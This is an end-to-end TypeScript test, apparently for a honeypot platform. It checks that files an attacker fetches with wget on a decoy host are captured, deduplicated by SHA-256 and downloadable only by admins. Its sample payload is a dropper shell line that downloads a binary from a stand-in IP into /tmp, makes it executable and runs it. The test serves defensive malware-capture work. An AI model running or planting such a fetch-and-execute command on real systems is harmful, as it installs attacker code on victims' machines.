import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { sshpassCommand } from '../../fixtures/attacker.ts'
import { docker, runNodeOnLan } from '../../fixtures/docker.ts'
import { expect, test } from '../../fixtures/stack.ts'
import { adminSession, sshDecky } from '../../fixtures/ui-helpers.ts'

const PASSWORD = 'Artifact-Root-Login-31'
const PAYLOAD = '#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.7/x86 -O .x; chmod +x .x; ./.x\n'
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')

/** Debian's OpenSSH client on the decky (sshpass), as root. */
const sshCommand = (ip: string, command: string) => sshpassCommand(ip, PASSWORD, command)

test('artifacts: wget on a decky is fetched by the sandboxed fetcher, kept once by SHA-256, and an admin downloads it from the console', async ({
  page,
  stack,
}) => {
  test.setTimeout(300_000)
  const { client, ip } = await sshDecky(stack, 'art-ssh', PASSWORD)

  // A web server on the decky LAN (its own container, labelled so the stack's cleanup removes it).
  const image = docker(['inspect', '-f', '{{.Config.Image}}', `${stack.instance}-art-ssh.decoy`])
  const serverIp = `${stack.subnet.split('.').slice(0, 3).join('.')}.250`
  runNodeOnLan(stack.instance, {
    name: `${stack.instance}-payload-server`,
    ip: serverIp,
    image,
    script: `require('http').createServer((q, r) => { r.setHeader('content-type', 'text/x-sh'); r.end(${JSON.stringify(PAYLOAD)}) }).listen(8080)`,
  })
  const url = `http://${serverIp}:8080/payload.sh`

  // What the attacker sees is GNU wget's output, with the real size and type of what was served.
  let printed = ''
  await expect
    .poll(
      async () => {
        printed = await sshCommand(ip, `cd /tmp; wget ${url}; ls -l payload.sh`)
        return printed
      },
      { timeout: 60_000 },
    )
    .toMatch(/HTTP request sent, awaiting response\.\.\. 200 OK/)
  expect(printed).toMatch(
    new RegExp(`^--\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d--  ${url.replace(/\./g, '\\.')}\\n`),
  )
  expect(printed).toContain(`Connecting to ${serverIp}:8080... connected.\n`)
  expect(printed).toContain(`Length: ${PAYLOAD.length} [text/x-sh]\nSaving to: ‘payload.sh’\n`)
  expect(printed).toMatch(
    new RegExp(
      `\\d\\d:\\d\\d:\\d\\d \\([\\d.]+ [KM]?B/s\\) - ‘payload\\.sh’ saved \\[${PAYLOAD.length}/${PAYLOAD.length}\\]`,
    ),
  )
  expect(printed).toMatch(new RegExp(`-rw-r--r-- 1 root root ${PAYLOAD.length} .* payload\\.sh`))
  // A second fetch of the same content: still one artifact, seen twice.
  await sshCommand(ip, `wget -q ${url} -O /tmp/again.sh`)

  const hash = sha256(PAYLOAD)
  await expect
    .poll(async () => (await client.artifacts.list.query({ limit: 50 })).rows, { timeout: 30_000 })
    .toEqual([
      expect.objectContaining({ sha256: hash, size: PAYLOAD.length, sightings: 2, truncated: false }),
    ])
  // Stored once, content-addressed, under the data dir.
  expect(readFileSync(join(stack.dataDir, 'artifacts', hash.slice(0, 2), hash), 'utf8')).toBe(PAYLOAD)
  const detail = await client.artifacts.get.query({ sha256: hash })
  expect(detail.seen.map((s) => [s.decky, s.source, s.name])).toEqual([
    ['art-ssh', 'download', url],
    ['art-ssh', 'download', url],
  ])
  // The bytes are for signed-in admins only.
  expect((await fetch(`${stack.apiUrl}${detail.downloadPath}`)).status).toBe(401)

  await adminSession(page, stack)
  await page.goto(`${stack.webUrl}/artifacts`)
  await page.getByTestId('artifact-row').filter({ hasText: hash }).getByRole('button').click()
  await expect(page.getByTestId('artifact-sightings')).toContainText(url)
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('artifact-download').click(),
  ])
  expect(download.suggestedFilename()).toBe(`${hash}.bin`)
  expect(readFileSync(await download.path(), 'utf8')).toBe(PAYLOAD)
})
